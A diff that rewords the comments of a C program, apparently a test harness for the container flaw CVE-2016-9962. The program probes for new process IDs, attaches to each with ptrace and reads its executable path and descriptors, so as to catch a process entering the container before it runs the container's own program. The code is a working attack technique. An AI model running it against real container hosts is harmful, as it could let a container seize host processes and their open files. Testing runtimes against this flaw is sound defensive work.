@@ -1,7 +1,7 @@
-// What a container would do to whoever enters it (CVE-2016-9962): it tries to trace each new
-// process, and to look at its descriptors, as soon as it can be seen. Says "seized EXE" for one
-// that is not yet a program of the container, and "saw N" for the new processes at its end, a
-// second after the file /stop appears.
+// The attack of a container on a process that enters it (CVE-2016-9962): it tries to trace each new
+// process, and to read its descriptors, as soon as it can be seen. Prints "seized EXE" for one that
+// is not yet a program of the container, and "saw N" with the number of new processes when it ends,
+// a second after the file /stop appears.
 
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -21,7 +21,7 @@ static void attack(int pid) {
     if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return;
     ptrace(PTRACE_INTERRUPT, pid, 0, 0);
     int status;
-    // A program that is just ending can be seized too, and stops for nobody.
+    // A process that is just exiting can be seized too, but does not stop.
     if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) return;
     snprintf(path, sizeof path, "/proc/%d/exe", pid);
     ssize_t length = readlink(path, exe, sizeof exe - 1);
@@ -37,16 +37,16 @@ int main(void) {
     printf("ready\n");
     fflush(stdout);
     while (access("/stop", F_OK) != 0) {
-        // The next numbers are tried without a look whether they are there: nothing is quicker.
+        // Tries the next numbers without checking whether they exist, which is the fastest way.
         for (int pid = next; pid < next + 4; ++pid) {
-            // A signal of 0 needs only that the process exists.
+            // Signal 0 only checks that the process exists.
             if (syscall(SYS_tgkill, pid, pid, 0) != 0) continue;
             attack(pid);
             if (!seen[pid]) {
                 seen[pid] = 1;
                 ++count;
             }
-            // Held on to until it is a program: the first moment is not the only one.
+            // Keeps it until it executes a program: the attack may also succeed later.
             for (int i = 0; i < 2000 && syscall(SYS_tgkill, pid, pid, 0) == 0; ++i) attack(pid);
             next = pid + 1;
         }
